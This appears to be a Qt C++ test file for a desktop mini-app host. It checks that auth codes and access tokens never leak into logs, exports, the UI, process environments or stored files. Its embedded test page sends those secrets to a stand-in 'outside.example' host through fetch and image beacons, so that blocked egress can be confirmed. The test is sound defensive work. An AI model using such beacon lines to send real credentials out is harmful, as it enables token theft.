// SPDX-License-Identifier: MIT
#include "app/desktop/inspector/inspector.h"
#include "app/desktop/window/topbar.h"
#include "bridge/core/events/client.h"
#include "bridge/core/events/page.h"
#include "tests/desktop/desk.h"
#include "tests/support/testmain.h"
#include "tests/support/webapplication.h"

#include <QAbstractItemView>
#include <QAction>
#include <QDirIterator>
#include <QJsonDocument>
#include <QLabel>
#include <QLineEdit>
#include <QNetworkAccessManager>
#include <QNetworkReply>
#include <QPlainTextEdit>
#include <QTemporaryDir>

using namespace MiniHost;

namespace {

// A page that puts its code into each kind of journal entry that a page can cause.
constexpr auto page = R"HTML(<!DOCTYPE html><meta charset="utf-8"><title>canary</title><script>
const call = (name, params) => new Promise(done => WebViewJavascriptBridge.callHandler(name, params, done));
async function authorize() {
    const answer = await openAuth({ clientId: 'suitedemo', corpId: 'dingdemo', rpcScope: 'Contact.User.Read', type: 0 });
    window.code = answer.result.authCode || answer.result.code;
    return window.code;
}
async function login() {
    const answer = await call('runtime.permission.requestAuthCode', { corpId: 'dingdemo' });
    return JSON.stringify(answer);
}
function spread(secret) {
    const nested = encodeURIComponent('https://b.example/?code=' + secret + '&x=1');
    console.log('my code is ' + secret);
    console.error(JSON.stringify({ deep: { text: JSON.stringify({ accessToken: secret }) } }));
    history.pushState(0, '', '/?authCode=' + secret + '#/login?code=' + secret);
    fetch('https://outside.example/a?authCode=' + secret + '#' + secret).catch(() => 0);
    new Image().src = 'http://outside.example/' + secret + '/x?to=' + nested;
    fetch('/api/' + secret).catch(() => 0);
    call('biz.navigation.setTitle', { title: 'title ' + secret });
    call('biz.unknown.api', { [secret]: { list: [secret, { url: 'https://a/?to=' + nested }] } });
    call('biz.util.openLink', { url: location.origin + '/second.html?to=' + nested + '#code=' + secret });
}
</script>)HTML"_L1;

QByteArray contentOf(const QString &name)
{
    QFile file(name);
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
}

// All texts of the window: shown texts, tool tips and the texts for assistive technology.
QStringList textsOf(QWidget &window)
{
    QStringList texts;
    QWidgetList widgets = window.findChildren<QWidget *>();
    widgets += &window;
    for (const QWidget *widget : std::as_const(widgets)) {
        texts += { widget->windowTitle(), widget->toolTip(), widget->statusTip(), widget->whatsThis(),
            widget->accessibleName(), widget->accessibleDescription() };
        for (const char *property : { "text", "plainText", "placeholderText", "title", "words" })
            texts += widget->property(property).toString();
        const auto *view = qobject_cast<const QAbstractItemView *>(widget);
        const QAbstractItemModel *model = view ? view->model() : nullptr;
        const std::function<void(const QModelIndex &)> walk = [&](const QModelIndex &parent) {
            for (int row = 0; row < model->rowCount(parent); ++row) {
                for (int column = 0; column < model->columnCount(parent); ++column) {
                    for (const int role : { Qt::DisplayRole, Qt::ToolTipRole, Qt::AccessibleTextRole, Qt::EditRole })
                        texts += model->index(row, column, parent).data(role).toString();
                }
                walk(model->index(row, 0, parent));
            }
        };
        if (model)
            walk({});
    }
    const auto actions = window.findChildren<QAction *>();
    for (const QAction *action : actions)
        texts += { action->text(), action->toolTip() };
    return texts;
}

// Arguments and environment of this process and its children.
QByteArray processesTexts()
{
    QByteArray texts;
    QSet<QString> family { QString::number(QCoreApplication::applicationPid()) };
    const QStringList all = QDir(u"/proc"_s).entryList({ u"[0-9]*"_s }, QDir::Dirs);
    for (int generation = 0; generation < 4; ++generation) {
        for (const QString &pid : all) {
            const QByteArray stat = contentOf(u"/proc/%1/stat"_s.arg(pid));
            const QList<QByteArray> after = stat.sliced(stat.lastIndexOf(')') + 1).trimmed().split(' ');
            if (after.size() > 1 && family.contains(QString::fromLatin1(after[1])))
                family += pid;
        }
    }
    for (const QString &pid : std::as_const(family))
        texts += contentOf(u"/proc/%1/cmdline"_s.arg(pid)) + '\n' + contentOf(u"/proc/%1/environ"_s.arg(pid)) + '\n';
    return texts;
}

} // namespace

// Known codes, tokens and secrets are used in real calls; then the test looks for them wherever something is shown or
// stored.
class CanaryTest : public QObject
{
    Q_OBJECT

    QTemporaryDir m_site;
    QTemporaryDir m_data;
    QTemporaryDir m_exports;
    std::unique_ptr<Desk> m_desk;
    // By their meaning: "code", "token".
    QHash<QString, QString> m_secrets;

    QJsonObject ask(
        const QByteArray &method, const QString &path, const QJsonObject &body = {}, const QString &token = {})
    {
        QNetworkRequest request(m_desk->simulator->apiUrl().resolved(QUrl(path)));
        request.setHeader(QNetworkRequest::ContentTypeHeader, u"application/json"_s);
        if (!token.isEmpty())
            request.setRawHeader("x-acs-dingtalk-access-token", token.toLatin1());
        QNetworkAccessManager network;
        QNetworkReply *reply = network.sendCustomRequest(request, method, QJsonDocument(body).toJson());
        waitForSignal(reply, &QNetworkReply::finished);
        return QJsonDocument::fromJson(reply->readAll()).object();
    }

    void verifyNone(const QString &where, const QByteArray &texts)
    {
        QVERIFY2(!texts.isEmpty(), qPrintable(where));
        for (auto secret = m_secrets.cbegin(); secret != m_secrets.cend(); ++secret) {
            const qsizetype at = texts.indexOf(secret->toUtf8());
            QVERIFY2(at < 0,
                (where + u": "_s + secret.key()).toUtf8() + ": " + texts.mid(std::max<qsizetype>(0, at - 150), 250));
        }
    }

private Q_SLOTS:
    void initTestCase()
    {
        for (const QString &name : { u"index.html"_s, u"second.html"_s }) {
            QFile file(m_site.filePath(name));
            QVERIFY(file.open(QIODevice::WriteOnly));
            file.write(page.data(), page.size());
        }
        m_desk =
            std::make_unique<Desk>(ExchangeMode::Off, m_site.path(), QString(), ClientPlatform::Ios, m_data.path());
        QVERIFY(waitUntilTrue(m_desk->page(), u"document.title === 'canary'"_s));

        evaluate(m_desk->page(), u"authorize(); 0"_s);
        QVERIFY(m_desk->isAsked());
        m_desk->allow();
        QVERIFY(waitUntilTrue(m_desk->page(), u"!!window.code"_s));
        const QString code = evaluate(m_desk->page(), u"code"_s)->toString();
        m_secrets.insert(u"code"_s, code);
        m_secrets.insert(u"client secret"_s, u"demo-secret"_s);

        const QJsonObject app { { u"clientId"_s, u"suitedemo"_s }, { u"clientSecret"_s, u"demo-secret"_s } };
        QJsonObject body = app;
        body.insert(u"code"_s, code);
        body.insert(u"grantType"_s, u"authorization_code"_s);
        const QJsonObject pair = ask("POST", u"/v1.0/oauth2/userAccessToken"_s, body);
        m_secrets.insert(u"token"_s, pair[u"accessToken"_s].toString());
        m_secrets.insert(u"refresh token"_s, pair[u"refreshToken"_s].toString());
        body = app;
        body.insert(u"refreshToken"_s, pair[u"refreshToken"_s]);
        body.insert(u"grantType"_s, u"refresh_token"_s);
        const QJsonObject second = ask("POST", u"/v1.0/oauth2/userAccessToken"_s, body);
        m_secrets.insert(u"second token"_s, second[u"accessToken"_s].toString());
        const QJsonObject me = ask("GET", u"/v1.0/contact/users/me"_s, {}, second[u"accessToken"_s].toString());
        QVERIFY(me.contains(u"openId"_s));
        const QJsonObject appToken = ask("POST", u"/v1.0/oauth2/accessToken"_s,
            { { u"appKey"_s, u"suitedemo"_s }, { u"appSecret"_s, u"demo-secret"_s } });
        m_secrets.insert(u"app's token"_s, appToken[u"accessToken"_s].toString());

        evaluate(m_desk->page(), u"login().then(text => { window.loginAnswer = text }); 0"_s);
        QVERIFY(waitUntilTrue(m_desk->page(), u"!!window.loginAnswer"_s));
        const QString login = evaluate(m_desk->page(), u"loginAnswer.match(/\"code\":\"([^\"]+)/)[1]"_s)->toString();
        m_secrets.insert(u"login code"_s, login);
        const QByteArray control = contentOf(m_desk->simulator->controlTokenFile()).trimmed();
        m_secrets.insert(u"control token"_s, QString::fromLatin1(control));
        for (auto secret = m_secrets.cbegin(); secret != m_secrets.cend(); ++secret)
            QVERIFY2(secret->size() >= 8, qPrintable(secret.key()));

        for (const QString &secret : std::as_const(m_secrets))
            evaluate(m_desk->page(), u"spread('%1')"_s.arg(secret));
        // Each example opens a page over this one: when it is there, all earlier entries are in the journal.
        QVERIFY(waitUntil([this] { return count(Events::WindowOpened::Kind) == m_secrets.size(); }));
        QVERIFY(waitUntil([this] { return count(Events::EgressBlocked::Kind) >= 2 * m_secrets.size(); }));
        QVERIFY(waitUntil([this] { return count(Events::ConsoleMessage::Kind) >= 2 * m_secrets.size(); }));
        m_desk->window->findChild<Inspector *>()->show();
    }
    void cleanupTestCase() { m_desk.reset(); }

    qsizetype count(EventKind kind)
    {
        const QList<JournalEntry> all = m_desk->simulator->journal().entriesAfter(0);
        return std::count_if(all.begin(), all.end(), [kind](const JournalEntry &entry) { return entry.kind == kind; });
    }

    void noSecretIsInTheJournal()
    {
        verifyNone(u"journal"_s, toJsonLines(m_desk->simulator->journal().entriesAfter(0)));
    }

    void theJournalHasTheMaskedBeginnings()
    {
        const QByteArray journal = toJsonLines(m_desk->simulator->journal().entriesAfter(0));
        for (const QString &what : { u"code"_s, u"token"_s, u"login code"_s })
            QVERIFY(journal.contains((m_secrets[what].first(4) + QChar(0x2026)).toUtf8()));
    }

    void noSecretIsInTheExports_data()
    {
        QTest::addColumn<QString>("what");
        QTest::addColumn<QString>("name");
        QTest::newRow("journal") << u"journal.jsonl"_s << u"j.jsonl"_s;
        QTest::newRow("picture") << u"flow.svg"_s << u"f.svg"_s;
        QTest::newRow("Mermaid") << u"flow.mmd"_s << u"f.mmd"_s;
    }
    void noSecretIsInTheExports()
    {
        QFETCH(QString, what);
        QFETCH(QString, name);
        const QString file = m_exports.filePath(name);
        QVERIFY(m_desk->window->findChild<Inspector *>()->saveTo(what, file));
        verifyNone(name, contentOf(file));
    }

    void noSecretIsInAWidget() { verifyNone(u"window"_s, textsOf(*m_desk->window).join(u'\n').toUtf8()); }

    void noSecretIsInArgumentsOrEnvironments()
    {
        const QByteArray texts = processesTexts();
        QVERIFY(texts.contains("QtWebEngineProcess"));
        verifyNone(u"processes"_s, texts);
    }

    // The database has them, since it compares them, and so has the file of the control token.
    void noSecretIsInTheDataFolder()
    {
        QByteArray texts = "files:";
        QDirIterator files(m_data.path(), QDir::Files, QDirIterator::Subdirectories);
        while (files.hasNext()) {
            const QString file = files.next();
            if (!files.fileName().contains("sqlite"_L1) && !files.fileName().contains(".db"_L1)
                && file != m_desk->simulator->controlTokenFile())
                texts += contentOf(file);
        }
        verifyNone(u"data folder"_s, texts);
    }
};

MINIHOST_TEST_MAIN(CanaryTest, WebApplication)
#include "tst_canary.moc"
